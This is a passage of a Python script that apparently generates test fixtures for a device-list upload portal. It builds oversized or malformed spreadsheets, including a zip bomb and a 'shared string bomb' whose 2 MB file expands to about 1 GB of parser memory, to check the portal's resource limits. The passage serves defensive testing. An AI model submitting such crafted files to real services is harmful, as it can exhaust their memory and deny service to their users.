    # 61 KB: 200 sheets, each with a value in A1 and one in XFD600, a grid of 9.8 million cells a sheet (under a
    # per-sheet limit of 10 million). Looking for the header loaded every sheet whole: 100 s and 700 MB to refuse.
    far = f'<row r="1">{cell("A1", "x")}</row><row r="600">{cell("XFD600", "x")}</row>'
    path.write_bytes(xlsx([(f"Sheet{n}", _raw_sheet(far)) for n in range(1, 201)]))


def far_cells_on_fifty_sheets(path: Path) -> None:
    # 50 sheets (as many as the portal reads), each with values in A1 and XFD15: 245,760 cells a sheet, harmless
    # alone, 12.3 million in all.
    far = f'<row r="1">{cell("A1", "x")}</row><row r="15">{cell("XFD15", "x")}</row>'
    path.write_bytes(xlsx([(f"Sheet{n}", _raw_sheet(far)) for n in range(1, 51)]))


def big_grid(path: Path) -> None:
    # 1.6 MB: a header across 50 columns over 199,999 IMEIs in column A, so a grid of 10 million cells (320 MB in
    # calamine) that the per-sheet limit let through.
    header = "".join(cell(f"{column_letter(i)}1", "IMEI" if i == 0 else f"Column {i}") for i in range(50))
    body = "".join(f'<row r="{n}"><c r="A{n}"><v>{imei(n)}</v></c></row>' for n in range(2, 200_001))
    path.write_bytes(xlsx([("Devices", _raw_sheet(f'<row r="1">{header}</row>{body}'))]))


def many_sheets(path: Path) -> None:
    # 212 small sheets, the devices on the last one.
    sheets = [(f"Sheet{n}", sheet_xml([["Notes"], [f"page {n}"]])) for n in range(1, 212)]
    path.write_bytes(xlsx([*sheets, ("Devices", devices_sheet(3))]))


def shared_string_bomb(path: Path) -> None:
    # 200,000 rows of five cells that all point at one shared string of 1,000 characters: calamine copies the text
    # into every cell, 1 GB of memory from a 2 MB file, though the grid is only a million cells.
    text = "".join(chr(0x41 + (n * 7) % 26) for n in range(1000))
    strings = (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_MAIN}" count="2" uniqueCount="2">'
        f"<si><t>IMEI</t></si><si><t>{text}</t></si></sst>"
    )
    info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    source = zipfile.ZipFile(
        io.BytesIO(xlsx([("Devices", devices_sheet(1))], extra=[("xl/sharedStrings.xml", strings)]))
    )
    with zipfile.ZipFile(path, "w") as archive:
        for member in source.infolist():
            if member.filename != info.filename:
                archive.writestr(member, source.read(member))
        with archive.open(info, "w", force_zip64=True) as sheet:
            sheet.write(f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}"><sheetData>'.encode())
            sheet.write(b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
            for start in range(2, 200_002, 10_000):
                sheet.write(
                    "".join(
                        f'<row r="{n}"><c r="A{n}"><v>{imei(n)}</v></c>'
                        + "".join(f'<c r="{c}{n}" t="s"><v>1</v></c>' for c in "BCDE")
                        + "</row>"
                        for n in range(start, start + 10_000)
                    ).encode()
                )
            sheet.write(b"</sheetData></worksheet>")


GENERATED: dict[str, Callable[[Path], None]] = {
    "million-rows.csv": million_rows_csv,
    "million-rows.xlsx": million_rows_xlsx,
    "ten-thousand-columns.xlsx": ten_thousand_columns,
    "long-cell-1mb.csv": long_cell_csv,
    "distinct-characters-1mb.xlsx": distinct_characters_cell,
    "zip-bomb-many-members.xlsx": zip_bomb_many_members,
    "far-cells-on-every-sheet.xlsx": far_cells_on_every_sheet,
    "far-cells-on-fifty-sheets.xlsx": far_cells_on_fifty_sheets,
    "big-grid.xlsx": big_grid,
    "many-sheets.xlsx": many_sheets,
    "shared-string-bomb.xlsx": shared_string_bomb,
}


def build(name: str, folder: Path) -> Path:
    """Write generated file `name` into `folder` (once) and return its path."""
    path = folder / name
    if not path.exists():
        GENERATED[name](path)
    return path


def main(folder: Path = HERE) -> None:
    for name, make in COMMITTED.items():
        data = make()
        assert len(data) < 200 * 1024, f"{name} is {len(data):,} bytes; committed files stay under 200 KB"
        (folder / name).write_bytes(data)
        print(f"{len(data):>9,}  {name}")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
